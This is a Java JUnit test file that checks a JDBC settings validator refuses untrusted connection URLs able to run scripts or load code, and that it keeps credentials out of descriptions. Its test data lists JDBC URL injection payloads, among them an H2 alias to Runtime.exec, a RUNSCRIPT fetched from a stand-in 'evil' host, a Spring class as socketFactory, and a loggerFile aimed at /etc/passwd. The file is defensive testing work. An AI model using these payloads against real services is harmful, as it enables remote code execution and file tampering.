package io.convener.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Issue 13: a JDBC URL from outside the operator's configuration cannot run scripts or load code. */
class UntrustedUrlTest {
  @TempDir Path dir;

  @Test
  void anInitSettingRunsItsScriptWhichIsWhyUntrustedUrlsRefuseIt() throws Exception {
    Path script = Files.writeString(dir.resolve("evil.sql"), "CREATE TABLE pwned (x INT);");
    String url = "jdbc:h2:mem:init-demo;INIT=RUNSCRIPT FROM '" + script + "'";

    try (Connection c = DriverManager.getConnection(url);
        ResultSet rs = c.getMetaData().getTables(null, null, "PWNED", null)) {
      assertThat(rs.next()).as("H2 ran the script named in the URL").isTrue();
    }
    assertThat(JdbcSettings.of(url).url()).as("the operator's own URL is taken as it is").isEqualTo(url);
    assertThatThrownBy(() -> JdbcSettings.untrusted(url))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("'INIT' is refused");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:h2:mem:x;init=CREATE ALIAS X FOR 'java.lang.Runtime.exec'",
      "jdbc:h2:mem:x;MODE=PostgreSQL;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
      "jdbc:h2:mem:x;MODE=PostgreSQL\\;INIT=RUNSCRIPT FROM 'x.sql'",
      "jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=4",
      "jdbc:h2:file:/tmp/x;DATABASE_EVENT_LISTENER='com.evil.Listener'",
      "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
      "jdbc:sqlite:/tmp/x.db?enable_load_extension=true",
      "jdbc:postgresql://db/convener?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
      "jdbc:postgresql://db/convener?sslmode=require&loggerFile=/etc/passwd"
  })
  void settingsThatActAreRefused(String url) {
    assertThatThrownBy(() -> JdbcSettings.untrusted(url))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("refused");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:h2:mem:x",
      "jdbc:h2:mem:x;MODE=PostgreSQL;DB_CLOSE_DELAY=-1",
      "jdbc:sqlite:/tmp/x.db",
      "jdbc:postgresql://db:5432/convener?sslmode=verify-full&connectTimeout=5&ApplicationName=convener"
  })
  void harmlessSettingsAreAccepted(String url) {
    assertThat(JdbcSettings.untrusted(url).url()).isEqualTo(url);
  }

  @Test
  void describeNamesTheDatabaseButNoCredential() {
    assertThat(JdbcSettings.of("jdbc:postgresql://bob:secret@db.example:5432/convener?password=secret").describe())
        .isEqualTo("POSTGRESQL database jdbc:postgresql://db.example:5432/convener");
    assertThat(JdbcSettings.sqlite(dir.resolve("c.db")).describe())
        .isEqualTo("SQLITE database " + dir.resolve("c.db").toAbsolutePath());
  }
}
